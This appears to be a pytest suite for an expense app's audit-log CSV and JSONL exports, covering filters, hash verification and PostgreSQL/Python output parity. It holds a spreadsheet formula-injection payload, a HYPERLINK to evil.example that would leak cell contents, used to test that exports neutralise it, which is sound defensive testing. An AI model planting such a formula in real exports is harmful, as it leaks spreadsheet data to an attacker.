"""GET /audit/export.csv and .jsonl on PostgreSQL: the filtered events, as the list shows them."""

import csv
import hashlib
import io
import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.db import Database
from app.domain.advice import LlmAdvice, Recommendation
from app.domain.audit_export import BOM, EXPORT_COLUMNS, events_csv, events_jsonl
from app.domain.audit_filter import parse_filter
from app.services.audit_export import ExportFormat, export_from
from app.services.audit_query import conditions
from app.services.audit_verify import snapshot, stream_events
from app.services.decisions import Verdict
from tests.audit_story import click, expense, staff

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def listed(client: TestClient, auth: dict[str, str], **query: str) -> list[dict[str, Any]]:
    response = client.get("/audit/events", params={**query, "limit": "500"}, headers=auth)
    assert response.status_code == 200
    events: list[dict[str, Any]] = response.json()["events"]
    return events


def rehash(row: dict[str, Any]) -> str:
    """An event's hash from its exported values alone, as the README tells auditors to do."""
    content = json.dumps(
        [row[name] for name in EXPORT_COLUMNS[2:-3]], ensure_ascii=False, separators=(",", ":")
    )
    header = f"expense-bot-audit/{row['format_version']}\n{row['seq']}\n{row['prev_hash']}\n"
    return hashlib.sha256(header.encode() + content.encode()).hexdigest()


def test_the_csv_holds_the_filtered_events_safe_for_a_spreadsheet(
    client: TestClient, db: Database
) -> None:
    alice, bob, dana = staff(db), staff(db, "approver"), staff(db, "auditor")
    other = expense(db, staff(db))
    expense_id = expense(db, alice, merchant='+Cafe, "Central"')
    click(db, expense_id, bob, Verdict.REJECT, reason=FORMULA)
    response = client.get("/audit/export.csv", params={"submitter": alice.email}, headers=dana.auth)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="audit-events-')
    assert response.headers["cache-control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    expected = listed(client, dana.auth, submitter=alice.email)
    assert [int(r["id"]) for r in rows] == [e["id"] for e in expected]
    assert {r["expense_id"] for r in rows} == {str(expense_id)}
    assert str(other) not in response.text
    rejected = rows[-1]
    assert rejected["action"] == "rejected"
    assert rejected["reason"] == "'" + FORMULA
    assert rejected["actor_email"] == bob.email
    assert rejected["hash"] == expected[-1]["hash"]
    submitted = rows[0]
    assert json.loads(submitted["details"])["merchant"] == '+Cafe, "Central"'


def test_the_jsonl_is_exactly_what_was_hashed(client: TestClient, db: Database) -> None:
    alice, dana = staff(db), staff(db, "auditor")
    advice = LlmAdvice(Recommendation.APPROVE, 0.97, ("Fits the trip", "Ünïcode ✓"), "m-1")
    expense_id = expense(db, alice, advice=advice, amount="2500.00", currency="EUR")
    response = client.get(
        "/audit/export.jsonl", params={"expense_id": str(expense_id)}, headers=dana.auth
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson; charset=utf-8"
    rows = [json.loads(line) for line in response.text.splitlines()]
    assert [r["action"] for r in rows] == ["submitted", "llm_reviewed", "routed_to_human"]
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    for row in rows:
        assert rehash(row) == row["hash"]
    assert json.loads(rows[1]["llm_reasons"]) == ["Fits the trip", "Ünïcode ✓"]
    assert rows[1]["expense_id"] == str(expense_id)
    assert rows[1]["created_at"].endswith("Z")


def test_an_export_of_nothing_is_a_header_or_an_empty_file(
    client: TestClient, db: Database
) -> None:
    dana = staff(db, "auditor")
    nobody = {"expense_id": str(uuid.uuid4())}
    csv_text = client.get("/audit/export.csv", params=nobody, headers=dana.auth)
    assert csv_text.status_code == 200
    assert csv_text.content.decode("utf-8-sig") == ",".join(EXPORT_COLUMNS) + "\n"
    jsonl = client.get("/audit/export.jsonl", params=nobody, headers=dana.auth)
    assert (jsonl.status_code, jsonl.content) == (200, b"")


def test_exports_take_the_same_filters_and_refuse_the_same_bad_values(
    client: TestClient, db: Database
) -> None:
    dana = staff(db, "auditor")
    alice = staff(db)
    approved = expense(
        db, alice, amount="50.00", advice=LlmAdvice(Recommendation.APPROVE, 0.99, ("ok",), "m")
    )
    expense(db, alice, amount="1500.00")
    query = {"submitter": alice.email, "decided_by": "ai", "min_amount": "10"}
    response = client.get("/audit/export.jsonl", params=query, headers=dana.auth)
    rows = [json.loads(line) for line in response.text.splitlines()]
    assert {r["expense_id"] for r in rows} == {str(approved)}
    assert [r["id"] for r in rows] == [e["id"] for e in listed(client, dana.auth, **query)]
    bad = client.get("/audit/export.csv", params={"outcome": "maybe"}, headers=dana.auth)
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["field"] == "query.outcome"


def test_postgresqls_csv_has_the_same_cells_as_pythons(db: Database) -> None:
    """The CSV is written by COPY on PostgreSQL and by the csv module elsewhere: same cells."""
    alice, bob = staff(db), staff(db, "approver")
    advice = LlmAdvice(Recommendation.APPROVE, 0.97, ("ok",), "m")
    expense_id = expense(db, alice, advice=advice, amount="1500.00", merchant="-Minus")
    for reason in (FORMULA, "@at", "+plus", "\ttab", "\rcr", 'q"uote, comma\nline', ""):
        click(db, expense_id, bob, Verdict.REJECT, reason=reason)  # later ones: already decided
    flt = parse_filter({"expense_id": str(expense_id)})
    with snapshot(db.engine) as conn:
        from_copy = b"".join(export_from(conn, flt, "USD", ExportFormat.CSV)).decode()
        from_python = "".join(events_csv(stream_events(conn, where=conditions(flt, "USD"))))
    assert from_copy.startswith(BOM)
    copied = list(csv.reader(io.StringIO(from_copy[1:], newline="")))
    written = list(csv.reader(io.StringIO(from_python[1:], newline="")))
    assert copied == written
    assert len(copied) == 1 + 4  # submitted, llm_reviewed, routed_to_human, rejected
    assert copied[-1][EXPORT_COLUMNS.index("reason")] == "'" + FORMULA


@pytest.mark.parametrize("confidence", [1.0, 0.0, 0.97, 1e-05, 0.1 + 0.2])
def test_postgresqls_jsonl_is_byte_for_byte_pythons(db: Database, confidence: float) -> None:
    """JSON Lines are built by COPY on PostgreSQL and by json elsewhere: the very same bytes."""
    alice, bob = staff(db), staff(db, "approver")
    reasons = ('q"uote \\ back', "\u2028 \x7f ✓", "\x01\x1f")
    advice = LlmAdvice(Recommendation.APPROVE, confidence, reasons, "m-\u00e9")
    expense_id = expense(db, alice, advice=advice, amount="1500.00", merchant='Café "Ünï"')
    for reason in ("\ttab\rcr\nline", "", "\\", "plain"):
        click(db, expense_id, bob, Verdict.REJECT, reason=reason)  # later ones: already decided
    flt = parse_filter({"expense_id": str(expense_id)})
    with snapshot(db.engine) as conn:
        from_copy = b"".join(export_from(conn, flt, "USD", ExportFormat.JSONL))
        events = stream_events(conn, where=conditions(flt, "USD"))
        from_python = "".join(events_jsonl(events)).encode()
    assert from_copy == from_python
    # JSON Lines break only at LF: str.splitlines would also break at U+2028 and \x1f.
    rows = [json.loads(line) for line in from_copy.decode().split("\n")[:-1]]
    assert len(rows) == 4  # submitted, llm_reviewed, routed_to_human, rejected
    assert json.loads(rows[1]["llm_reasons"]) == list(reasons)
    assert rows[1]["llm_confidence"] == confidence
    assert rows[-1]["reason"] == "\ttab\rcr\nline"


def test_the_readmes_recipe_recomputes_every_hash_of_an_export(
    client: TestClient, db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Python the README gives auditors runs as printed, and catches a changed value."""
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    recipe = readme.split("**How to verify.**", 1)[1].split("```python\n", 1)[1].split("```")[0]
    alice, dana = staff(db), staff(db, "auditor")
    expense(db, alice, advice=LlmAdvice(Recommendation.APPROVE, 1.0, ("sure",), "m"))
    exported = client.get(
        "/audit/export.jsonl", params={"submitter": alice.email}, headers=dana.auth
    ).text
    monkeypatch.chdir(tmp_path)
    (tmp_path / "events.jsonl").write_text(exported, encoding="utf-8")
    exec(recipe, {})  # noqa: S102  (our own README's code, run as an auditor would)
    (tmp_path / "events.jsonl").write_text(exported.replace("sure", "SURE"), encoding="utf-8")
    with pytest.raises(AssertionError):
        exec(recipe, {})  # noqa: S102
